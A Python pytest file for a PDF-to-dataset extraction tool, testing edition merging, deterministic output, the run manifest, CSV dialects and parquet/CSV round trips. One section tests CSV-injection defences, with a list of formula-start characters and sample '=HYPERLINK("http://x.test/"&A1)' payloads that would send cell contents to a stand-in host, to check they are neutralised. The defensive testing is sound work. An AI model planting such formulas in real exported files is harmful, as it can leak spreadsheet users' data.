"""The dataset across runs: merging editions, re-runs, determinism, round trips."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import SAMPLE
from extract.cli import main
from extract.output import write_outputs
from extract.pipeline import Options, Result
from extract.store import csv_bytes, parquet_bytes, read_table
from extract.tables import SCHEMAS, SORT_KEYS
from gen import make_directory

TABLES = tuple(SCHEMAS)


def _snapshot(out: Path) -> dict[str, bytes]:
    return {
        p.name: p.read_bytes() for p in sorted(out.glob("*.parquet")) + sorted(out.glob("*.csv"))
    }


def _two_editions(tmp: Path) -> tuple[Path, Path]:
    years: dict[int, Path] = {}
    seed = 300
    while len(years) < 2:
        path = tmp / f"edition-{seed}.pdf"
        truth = make_directory(path, seed)
        years.setdefault(truth.edition_year, path)
        seed += 1
    first, second = sorted(years)
    return years[first], years[second]


def test_re_extracting_one_edition_replaces_only_its_rows(tmp_path: Path) -> None:
    one, two = _two_editions(tmp_path)
    out = tmp_path / "out"
    assert main(["extract", str(one), str(two), "--out", str(out), "--jobs", "2"]) == 0
    together = _snapshot(out)
    assert main(["extract", str(two), "--out", str(out), "--jobs", "1"]) == 0
    assert _snapshot(out) == together
    laureates = pq.read_table(out / "laureates.parquet").to_pylist()
    ids = [row["record_id"] for row in laureates]
    assert len(ids) == len(set(ids))
    assert len({row["edition_year"] for row in laureates}) == 2
    editions = pq.read_table(out / "editions.parquet").to_pylist()
    assert len(editions) == 2


def test_same_input_same_bytes(tmp_path: Path) -> None:
    for name in ("a", "b"):
        assert main(["extract", str(SAMPLE), "--out", str(tmp_path / name), "--jobs", "1"]) == 0
    first, second = _snapshot(tmp_path / "a"), _snapshot(tmp_path / "b")
    assert len(first) == 2 * len(TABLES)
    assert first == second


def test_excel_fr_dialect(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["extract", str(SAMPLE), "--out", str(out), "--csv-dialect", "excel-fr"]) == 0
    raw = (out / "laureates.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0][:3] == ["record_id", "edition_year", "category"]
    assert len(rows) == 26
    plain = tmp_path / "plain"
    assert main(["extract", str(SAMPLE), "--out", str(plain)]) == 0
    assert not (plain / "laureates.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_manifest_describes_the_run(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["extract", str(SAMPLE), "--out", str(out), "--jobs", "1", "--password", "x"]) == 0
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    (entry,) = manifest["inputs"]
    assert entry["file"] == "annuaire-2021.pdf" and entry["outcome"] == "ok"
    assert entry["pages"] == 37 and entry["edition_year"] == 2021
    assert entry["counts"]["laureates"] == 25 and entry["counts"]["errors"] == 1
    assert len(entry["sha256"]) == 64 and entry["seconds"] > 0
    assert "password" not in manifest["options"]
    assert set(manifest["editions"]) == {"2021"}
    assert "laureates.parquet" in manifest["tables"]


# --- CSV injection: what a spreadsheet would run -----------------------------------------

# The first characters OWASP lists as starting a formula in Excel and LibreOffice.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [f'{start}HYPERLINK("http://x.test/"&A1)' for start in DANGEROUS]


def _read_csv(path: Path, dialect: str) -> list[dict[str, str]]:
    encoding, delimiter = ("utf-8-sig", ";") if dialect == "excel-fr" else ("utf-8", ",")
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


def _with_formulas(result: Result) -> Result:
    """The sample's records, with printed text that starts like a formula in several columns."""
    tables = dict(result.tables)
    laureates = tables["laureates"]
    for column in ("territory", "project", "description"):
        values = laureates.column(column).to_pylist()
        values[: len(FORMULAS)] = FORMULAS
        index = laureates.schema.get_field_index(column)
        laureates = laureates.set_column(index, laureates.field(column), pa.array(values))
    tables["laureates"] = laureates
    editions = tables["editions"]
    index = editions.schema.get_field_index("criteria")
    criteria = pa.array([FORMULAS], editions.field("criteria").type)
    tables["editions"] = editions.set_column(index, editions.field("criteria"), criteria)
    return dataclasses.replace(result, tables=tables)


def test_excel_fr_makes_formula_cells_inert_and_plain_keeps_the_text(
    sample_result: Result, tmp_path: Path
) -> None:
    result = _with_formulas(sample_result)
    for dialect in ("excel-fr", "plain"):
        out = tmp_path / dialect
        write_outputs(out, [result], Options(jobs=1, csv_dialect=dialect))
        rows = sorted(_read_csv(out / "laureates.csv", dialect), key=lambda r: r["record_id"])
        want = sorted(result.tables["laureates"].to_pylist(), key=lambda r: r["record_id"])
        (edition,) = _read_csv(out / "editions.csv", dialect)
        if dialect == "excel-fr":
            for row, wanted in zip(rows, want, strict=True):
                for column in ("territory", "project", "description"):
                    text = wanted[column]
                    assert row[column] == ("'" + text if text[:1] in DANGEROUS else text)
            assert {row["territory"] for row in rows} >= {"'" + f for f in FORMULAS}
            assert edition["criteria"] == "'" + "|".join(FORMULAS)
        else:
            assert [r["territory"] for r in rows] == [w["territory"] for w in want]
            assert edition["criteria"] == "|".join(FORMULAS)
        # Parquet keeps the exact printed text whatever the CSV dialect.
        parquet = sorted(read_table(out, "laureates").to_pylist(), key=lambda r: r["record_id"])
        assert parquet == want


def test_a_negative_number_is_not_quoted_but_text_that_looks_like_one_is() -> None:
    table = pa.table({"n": pa.array([-5], pa.int32()), "s": pa.array(["-5"])})
    rows = list(
        csv.reader(io.StringIO(csv_bytes(table, "excel-fr").decode("utf-8-sig")), delimiter=";")
    )
    assert rows == [["n", "s"], ["-5", "'-5"]]


# --- round trip: what is written reads back equal --------------------------------------

TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r"),
    max_size=40,
)
ROW = st.fixed_dictionaries(
    {
        "record_id": TEXT,
        "edition_year": st.integers(1990, 2100),
        "category": TEXT,
        "tier": st.sampled_from(["or", "argent", "bronze"]),
        "tier_statement": st.none() | st.sampled_from(["or", "argent", "bronze"]),
        "territory": TEXT,
        "territory_key": TEXT,
        "project": TEXT,
        "project_subtitle": st.none() | TEXT,
        "description": TEXT,
        "innovation": TEXT,
        "contributions": TEXT,
        "has_partners": st.booleans(),
        "page_start": st.integers(1, 5000),
        "page_end": st.integers(1, 5000),
        "source_file": TEXT,
        "source_sha256": TEXT,
    }
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(rows=st.lists(ROW, max_size=6), dialect=st.sampled_from(["plain", "excel-fr"]))
def test_laureates_round_trip_through_parquet_and_csv(
    rows: list[dict[str, object]], dialect: str
) -> None:
    table = pa.Table.from_pylist(rows, schema=SCHEMAS["laureates"])
    back = pq.read_table(pa.BufferReader(parquet_bytes(table)))
    assert back.to_pylist() == rows
    encoding, delimiter = ("utf-8-sig", ";") if dialect == "excel-fr" else ("utf-8", ",")
    text = csv_bytes(table, dialect).decode(encoding)
    parsed = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(parsed) == len(rows)
    for got, want in zip(parsed, rows, strict=True):
        for key, value in want.items():
            if value is None:
                assert got[key] == ""
            elif isinstance(value, bool):
                assert got[key] == ("true" if value else "false")
            elif dialect == "excel-fr" and isinstance(value, str) and value[:1] in DANGEROUS:
                assert got[key] == "'" + value
            else:
                assert got[key] == str(value)


@pytest.mark.parametrize("name", TABLES)
def test_every_table_sorts_on_its_own_columns(name: str) -> None:
    assert set(SORT_KEYS[name]) <= set(SCHEMAS[name].names)
